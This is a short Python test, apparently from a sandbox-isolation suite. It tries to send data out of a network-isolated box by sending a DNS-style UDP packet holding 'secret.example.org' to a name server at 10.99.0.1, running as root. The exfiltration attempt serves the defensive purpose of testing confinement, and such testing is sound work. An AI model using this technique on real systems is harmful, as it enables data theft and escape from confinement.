# SPDX-License-Identifier: Apache-2.0
# attack: sends data out in questions to the host's name server
# category: network
# inside: there is no way out of the box's network
# as: root
# outside: net
import socket

import attack


def ask():
    asked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asked.settimeout(1)
    asked.sendto(b"secret.example.org", ("10.99.0.1", 53))
    asked.recv(4)


attack.try_to("ask a name server", ask)
